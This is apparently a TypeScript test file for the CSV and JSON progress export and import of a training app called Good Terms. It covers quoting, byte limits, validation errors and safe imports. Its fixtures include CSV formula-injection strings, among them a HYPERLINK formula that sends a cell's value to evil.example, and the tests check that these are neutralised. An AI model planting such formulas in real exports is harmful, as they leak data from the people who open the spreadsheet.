import 'fake-indexeddb/auto';
import { IDBFactory } from 'fake-indexeddb';
import { describe, expect, it } from 'vitest';
import { BOM, csvCell, neutralise, toCsv } from '../../../src/progress/csv';
import {
  ATTEMPT_COLUMNS,
  DECISION_COLUMNS,
  EXPORT_VERSION,
  exportFileName,
  importInto,
  MAX_IMPORT_BYTES,
  parseJsonImport,
  toCsvAttempts,
  toCsvDecisions,
  toJsonExport,
  tooLargeToImport,
} from '../../../src/progress/exportImport';
import { openProgressStore } from '../../../src/progress/store';
import { attempt, fixtureJson } from './helpers';

/** A strict RFC 4180 reader, to check that what we write reads back as the cells we meant. */
function parseCsv(text: string): string[][] {
  expect(text.startsWith(BOM)).toBe(true);
  const body = text.slice(1);
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < body.length; i++) {
    const c = body[i];
    if (quoted) {
      if (c === '"' && body[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') {
      expect(cell, 'a quote may only open a cell').toBe('');
      quoted = true;
    } else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && body[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else {
      expect(c, 'a bare CR or LF outside quotes').not.toMatch(/[\r\n]/);
      cell += c;
    }
  }
  expect(cell === '' && row.length === 0, 'the document ends with CRLF').toBe(true);
  return rows;
}

const NASTY = [
  ['=HYPERLINK("http://evil.example/?q="&A1,"Click")', `'=HYPERLINK("http://evil.example/?q="&A1,"Click")`],
  ['+1', "'+1"],
  ['-2', "'-2"],
  ['@x', "'@x"],
  ['\tTab first', "'\tTab first"],
  ['\rCR first', "'\rCR first"],
  ['Smith, Jane', 'Smith, Jane'],
  ['She said "hi"', 'She said "hi"'],
  ['two\nlines', 'two\nlines'],
  ['Zoë Ñúñez 山田 🙂', 'Zoë Ñúñez 山田 🙂'],
  ['a=b', 'a=b'],
  ['', ''],
] as const;

describe('CSV cells', () => {
  it.each(NASTY)('%j is written so a spreadsheet shows it as the text %j', (input, shown) => {
    expect(neutralise(input)).toBe(shown);
    expect(parseCsv(toCsv(['name'], [[input]]))).toEqual([['name'], [shown]]);
  });

  it('quotes only what needs quoting and doubles quotes (RFC 4180)', () => {
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "x"')).toBe('"say ""x"""');
    expect(csvCell('a\r\nb')).toBe('"a\r\nb"');
    expect(csvCell('=1+2')).toBe("'=1+2");
    expect(csvCell('=SUM(1,2)')).toBe(`"'=SUM(1,2)"`);
  });

  it('keeps numbers and booleans as values: a negative meter change is not text', () => {
    expect([
      csvCell(-5),
      csvCell(0),
      csvCell(12.5),
      csvCell(true),
      csvCell(false),
      csvCell(undefined),
    ]).toEqual(['-5', '0', '12.5', 'true', 'false', '']);
    expect(csvCell(Number.NaN)).toBe('');
  });

  it('writes UTF-8 with a BOM and CRLF line ends', () => {
    expect(toCsv(['a', 'b'], [[1, 'x']])).toBe('\uFEFFa,b\r\n1,x\r\n');
  });
});

describe('the attempt and decision CSVs', () => {
  const first = attempt({
    scenarioTitle: '"I can do a hundred a month"',
    startedAt: '2026-01-05T10:00:00.000Z',
    finishedAt: '2026-01-05T10:04:00.000Z',
    mode: 'assessment',
    turns: [
      {
        turn: 1,
        nodeId: 'greet',
        choiceId: 'warm',
        choiceText: 'Hi, I can see you are in a hurry; this takes two minutes.',
        tags: ['acknowledge', 'duration'],
        before: { stress: 50, trust: 50 },
        after: { stress: 40, trust: 58 },
        rules: [],
        at: '2026-01-05T10:00:45.000Z',
      },
      {
        turn: 2,
        nodeId: 'ask',
        choiceId: 'shout-balance',
        choiceText: '-YOU ALSO OWE $240, today!',
        tags: ['pressure'],
        before: { stress: 40, trust: 58 },
        after: { stress: 85, trust: 38 },
        rules: ['counter-privacy'],
        at: '2026-01-05T10:01:15.000Z',
      },
    ],
  });
  const second = attempt({ startedAt: '2026-01-06T10:00:00.000Z', finishedAt: '2026-01-06T10:02:00.000Z' });
  const profile = { displayName: '=HYPERLINK("http://evil.example","x")' };

  it('one row per attempt, oldest first, numbered per scenario, the name neutralised', () => {
    const rows = parseCsv(toCsvAttempts([second, first], profile));
    expect(rows[0]).toEqual([...ATTEMPT_COLUMNS]);
    const col = (row: string[] | undefined, name: (typeof ATTEMPT_COLUMNS)[number]) =>
      row?.[ATTEMPT_COLUMNS.indexOf(name)];
    expect(rows).toHaveLength(3);
    expect(col(rows[1], 'trainee')).toBe(`'${profile.displayName}`);
    expect(col(rows[1], 'attempt_id')).toBe(first.id);
    expect(col(rows[1], 'attempt_number')).toBe('1');
    expect(col(rows[2], 'attempt_number')).toBe('2');
    expect(col(rows[1], 'scenario_title')).toBe('"I can do a hundred a month"');
    expect(col(rows[1], 'duration_seconds')).toBe('240');
    expect(col(rows[1], 'decisions')).toBe('2');
    expect(col(rows[1], 'mode')).toBe('assessment');
    expect(col(rows[1], 'passed')).toBe('true');
    expect(col(rows[1], 'finished_at')).toBe('2026-01-05T10:04:00.000Z');
  });

  it('one row per decision with meter changes as numbers, rule flags and time to answer', () => {
    const text = toCsvDecisions([first, second], profile);
    const rows = parseCsv(text);
    expect(rows[0]).toEqual([...DECISION_COLUMNS]);
    expect(rows).toHaveLength(1 + first.turns.length + second.turns.length);
    const get = (row: string[] | undefined, name: (typeof DECISION_COLUMNS)[number]) =>
      row?.[DECISION_COLUMNS.indexOf(name)];
    const shout = rows[2];
    expect(get(shout, 'choice_id')).toBe('shout-balance');
    expect(get(shout, 'choice_text')).toBe("'-YOU ALSO OWE $240, today!");
    expect(get(shout, 'stress_change')).toBe('45');
    expect(get(shout, 'trust_change')).toBe('-20');
    expect(get(shout, 'rule_flags')).toBe('counter-privacy');
    expect(get(shout, 'seconds_to_answer')).toBe('30');
    expect(get(rows[1], 'seconds_to_answer')).toBe('45');
    expect(get(rows[1], 'tags')).toBe('acknowledge duration');
    // The negative change is written bare, so spreadsheets read it as a number.
    expect(text).toContain(',-20,');
  });

  it('names files by kind and day', () => {
    const day = new Date('2026-03-04T12:00:00Z');
    expect(exportFileName('attempts', day)).toBe('good-terms-attempts-2026-03-04.csv');
    expect(exportFileName('decisions', day)).toBe('good-terms-decisions-2026-03-04.csv');
    expect(exportFileName('json', day)).toBe('good-terms-progress-2026-03-04.json');
  });
});

describe('JSON export and import', () => {
  const profile = { displayName: 'Zoë, "the closer"\n=1+1' };

  it('round-trips losslessly', () => {
    const attempts = [attempt({ mode: 'assessment' }), attempt()];
    const text = toJsonExport(profile, attempts, new Date('2026-03-04T12:00:00Z'));
    expect(JSON.parse(text)).toMatchObject({
      format: 'good-terms-progress',
      exportVersion: EXPORT_VERSION,
      exportedAt: '2026-03-04T12:00:00.000Z',
    });
    expect(parseJsonImport(text)).toEqual({ ok: true, profile, attempts });
    expect(parseJsonImport(`\uFEFF${text}`).ok).toBe(true);
  });

  it('re-imports its own export of a long history (5,000 attempts with a dozen decisions each)', () => {
    const base = attempt({ mode: 'assessment' });
    const turns = Array.from({ length: 12 }, (_, i) => ({
      ...base.turns[0],
      turn: i + 1,
    })) as typeof base.turns;
    const attempts = Array.from({ length: 5000 }, (_, i) => ({ ...base, id: `long-${i}`, turns }));
    const text = toJsonExport(profile, attempts);
    expect(text.length).toBeLessThan(MAX_IMPORT_BYTES);
    const back = parseJsonImport(text);
    expect(back.ok && back.attempts.length).toBe(5000);
  });

  it('refuses a file by its size in bytes before reading it, and counts bytes, not characters', () => {
    expect(tooLargeToImport(MAX_IMPORT_BYTES)).toBeUndefined();
    expect(tooLargeToImport(MAX_IMPORT_BYTES + 1)).toMatchObject({
      ok: false,
      error: expect.stringMatching(/^Nothing was imported\. The file is too large/),
    });
    // Three bytes a character: under the cap in characters, over it in bytes.
    const wide = '\u20ac'.repeat(Math.floor(MAX_IMPORT_BYTES / 3) + 10);
    expect(wide.length).toBeLessThan(MAX_IMPORT_BYTES);
    expect(parseJsonImport(wide)).toMatchObject({ ok: false, error: expect.stringMatching(/too large/) });
  });

  it('migrates first-format attempts inside an export', () => {
    const v1 = fixtureJson('v1-attempt.json') as { score: number };
    const text = JSON.stringify({ format: 'good-terms-progress', exportVersion: 1, profile, attempts: [v1] });
    const result = parseJsonImport(text);
    if (!result.ok) throw new Error(result.error);
    expect(result.attempts[0]).toMatchObject({ formatVersion: 3, total: v1.score, mode: 'practice' });
  });

  const exportWith = (attempts: unknown[], extra: object = {}) =>
    JSON.stringify({
      format: 'good-terms-progress',
      exportVersion: 1,
      profile: { displayName: '' },
      attempts,
      ...extra,
    });

  it.each([
    ['not JSON', '{"format": ', /^Nothing was imported\. The file is not valid JSON \(/],
    ['JSON that is not an object', '[1, 2]', /not a Good Terms progress export \(expected a JSON object\)/],
    ['another kind of file', '{"hello": "world"}', /no "format": "good-terms-progress"/],
    ['a newer export', exportWith([], { exportVersion: 7 }), /exported by a newer version of Good Terms/],
    ['attempts that are not a list', exportWith([], { attempts: 'many' }), /Attempts must be a list\./],
    [
      'a total out of range in the third attempt',
      exportWith([attempt(), attempt(), { ...attempt(), total: 150 }]),
      /^Nothing was imported\. Attempt 3: total must be a number between 0 and 100\.$/,
    ],
    [
      'a missing field',
      exportWith([{ ...attempt(), finishedAt: undefined }]),
      /Attempt 1: finishedAt is missing\./,
    ],
    [
      'a duplicate id',
      exportWith([attempt({ id: 'same' }), attempt({ id: 'same' })]),
      /Attempt 2: id "same" is also used by attempt 1\./,
    ],
    ['a bad profile', exportWith([], { profile: { displayName: 3 } }), /Profile: displayName must be text\./],
    [
      'an attempt from a newer build',
      exportWith([{ ...attempt(), formatVersion: 4 }]),
      /Attempt 1: the attempt was saved by a newer version/,
    ],
  ])('rejects %s with a clear message', (_, text, message) => {
    const result = parseJsonImport(text);
    expect(result.ok).toBe(false);
    if (!result.ok) expect(result.error).toMatch(message);
  });

  it('lists at most five problems in the message and all of them in `problems`', () => {
    const bad = Array.from({ length: 8 }, () => ({ ...attempt(), total: -1 }));
    const result = parseJsonImport(exportWith(bad));
    if (result.ok) throw new Error('should fail');
    expect(result.problems).toHaveLength(8);
    expect(result.error).toMatch(/Attempt 5: .*\. And 3 more problems\.$/);
  });

  it('a bad file changes nothing in the store', async () => {
    const store = await openProgressStore({ indexedDB: new IDBFactory(), name: 'import' });
    const mine = attempt();
    await store.addAttempt(mine);
    await store.setProfile({ displayName: '' });
    const text = exportWith([attempt(), { ...attempt(), total: 'high' }], {
      profile: { displayName: 'Imported' },
    });
    const outcome = await importInto(store, parseJsonImport(text));
    expect(outcome).toMatchObject({ ok: false, error: expect.stringMatching(/Attempt 2: total must be/) });
    expect(await store.attempts()).toEqual([mine]);
    expect(await store.profile()).toEqual({ displayName: '' });
  });

  it('a good file adds new attempts, skips ones already there, and fills in a missing name', async () => {
    const store = await openProgressStore({ indexedDB: new IDBFactory(), name: 'import' });
    const mine = attempt();
    await store.addAttempt(mine);
    const theirs = [attempt(), attempt()];
    const text = toJsonExport({ displayName: 'Ana' }, [mine, ...theirs]);
    expect(await importInto(store, parseJsonImport(text))).toEqual({
      ok: true,
      added: 2,
      skipped: 1,
      profileUpdated: true,
    });
    expect((await store.attempts()).map((a) => a.id).sort()).toEqual(
      [mine, ...theirs].map((a) => a.id).sort(),
    );
    expect(await store.profile()).toEqual({ displayName: 'Ana' });
    // Importing the same file again changes nothing; an existing name is never overwritten.
    await store.setProfile({ displayName: 'Ana M.' });
    expect(await importInto(store, parseJsonImport(text))).toEqual({
      ok: true,
      added: 0,
      skipped: 3,
      profileUpdated: false,
    });
    expect(await store.profile()).toEqual({ displayName: 'Ana M.' });
  });
});
